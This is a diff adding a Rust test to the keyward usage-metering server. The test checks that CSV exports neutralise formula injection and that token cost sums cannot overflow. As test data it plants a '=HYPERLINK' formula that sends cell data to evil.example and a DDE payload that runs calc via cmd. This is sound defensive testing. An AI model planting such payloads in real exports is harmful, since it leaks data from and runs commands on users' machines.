@@ -18,7 +18,7 @@ use keyward_server::services::audit::By;
 use keyward_server::services::chat::{ChatCall, complete_metered};
 use keyward_server::services::credits;
 use keyward_server::services::keys::{self, NewKey, Scope};
-use keyward_server::services::usage::{UsageMeter, UsageRecord, UsageWriter, WriterConfig};
+use keyward_server::services::usage::{self, UsageMeter, UsageRecord, UsageWriter, WriterConfig};
 use leptos::server_fn::ServerFn;
 use sea_orm::{ColumnTrait, EntityTrait, QueryFilter, QueryOrder};
 use secrecy::SecretString;
@@ -698,4 +698,134 @@ async fn failed_flushes_are_retried(backend: Backend) {
 both_backends!(
     failed_flushes_are_retried,
     super::failed_flushes_are_retried
+);
+
+/// What hostile tenants and upstreams can put into usage data never turns into a formula in a
+/// spreadsheet, and an absurd token count cannot break the sums.
+async fn hostile_values_in_exports_and_reports(backend: Backend) {
+    use keyward::usage::{MAX_PRICE, MAX_REPORTED_TOKENS};
+    use keyward_server::entities::workspace;
+    use sea_orm::{ActiveModelTrait, Set};
+    let c = priced_world(backend).await;
+    let db = &c.w.app.db;
+    // A formula as the workspace name (any signed-in user can name a workspace).
+    let mut ws: workspace::ActiveModel = workspace::Entity::find_by_id(c.w.ws.id)
+        .one(db)
+        .await
+        .unwrap()
+        .unwrap()
+        .into();
+    ws.name = Set("=HYPERLINK(\"https://evil.example/?\"&B2,\"open\")".into());
+    ws.update(db).await.unwrap();
+    // The highest price on every other OpenAI model, and an upstream that reports 10^18 tokens each way.
+    credits::set_price(
+        db,
+        &By::cli(),
+        "*",
+        "*",
+        Price {
+            input: MAX_PRICE,
+            output: MAX_PRICE,
+        },
+    )
+    .await
+    .unwrap();
+    assert!(
+        credits::set_price(
+            db,
+            &By::cli(),
+            "*",
+            "*",
+            Price {
+                input: MAX_PRICE + 1,
+                output: 0
+            }
+        )
+        .await
+        .is_err(),
+        "prices are capped"
+    );
+    let old = credential::Entity::find()
+        .filter(credential::Column::WorkspaceId.eq(c.w.ws.id))
+        .one(db)
+        .await
+        .unwrap()
+        .unwrap();
+    keys::delete(db, &By::cli(), Scope::Workspace(c.w.ws.id), old.id)
+        .await
+        .unwrap();
+    c.add_key("", "sk-hugeusage-provider-key-0000000777").await;
+    let state = c.w.app.state.clone();
+    for _ in 0..3 {
+        let (mut call, mut meter) = call(&c, "hello");
+        // A model id that is a formula (the /v1 API takes model ids as they come).
+        call.model = Some("@SUM(1+1)*cmd|' /C calc'!A0".into());
+        meter.model = call.model.clone();
+        complete_metered(&state, call, meter).await.unwrap();
+    }
+    let recs = records(&c).await;
+    assert_eq!(recs.len(), 3);
+    let max = i64::try_from(MAX_REPORTED_TOKENS).unwrap();
+    assert!(
+        recs.iter()
+            .all(|r| r.input_tokens == max && r.output_tokens == max)
+    );
+    // Bounded: 2 × 10^9 tokens at the highest price.
+    let each = keyward::usage::cost(
+        Price {
+            input: MAX_PRICE,
+            output: MAX_PRICE,
+        },
+        MAX_REPORTED_TOKENS,
+        MAX_REPORTED_TOKENS,
+    );
+    assert!(recs.iter().all(|r| r.cost > 0 && r.cost <= each));
+    assert!(
+        each < i64::MAX / 100_000,
+        "100 000 requests at the bound still sum without overflow"
+    );
+    let total: i64 = recs.iter().map(|r| r.cost).sum();
+
+    // The reports still add up, the workspace's and the instance-wide one.
+    let book = &c.w.app.state.credits;
+    let ws_model = workspace::Entity::find_by_id(c.w.ws.id)
+        .one(db)
+        .await
+        .unwrap()
+        .unwrap();
+    let mine = usage::report(db, book, Some(&ws_model), "", "")
+        .await
+        .unwrap();
+    assert_eq!(mine.totals.cost, total);
+    assert_eq!(mine.totals.input_tokens, 3 * MAX_REPORTED_TOKENS);
+    let all = usage::report(db, book, None, "", "").await.unwrap();
+    assert!(all.totals.cost >= total);
+
+    // Both exports: no cell starts a formula.
+    for scope in [Some(c.w.ws.id), None] {
+        let bytes = usage::csv(db, scope, "", "").await.unwrap();
+        let mut rows = csv::Reader::from_reader(bytes.as_slice());
+        let mut seen = 0;
+        for row in rows.records() {
+            let row = row.unwrap();
+            for cell in row.iter() {
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "{scope:?}: {cell:?}"
+                );
+            }
+            if row.iter().any(|cell| cell.starts_with("'@SUM")) {
+                assert!(row.iter().any(|cell| cell.starts_with("'=HYPERLINK")));
+                seen += 1;
+            }
+        }
+        assert_eq!(
+            seen, 3,
+            "{scope:?}: the hostile rows are exported, neutralised"
+        );
+    }
+}
+both_backends!(
+    hostile_values_in_exports_and_reports,
+    super::hostile_values_in_exports_and_reports
 );
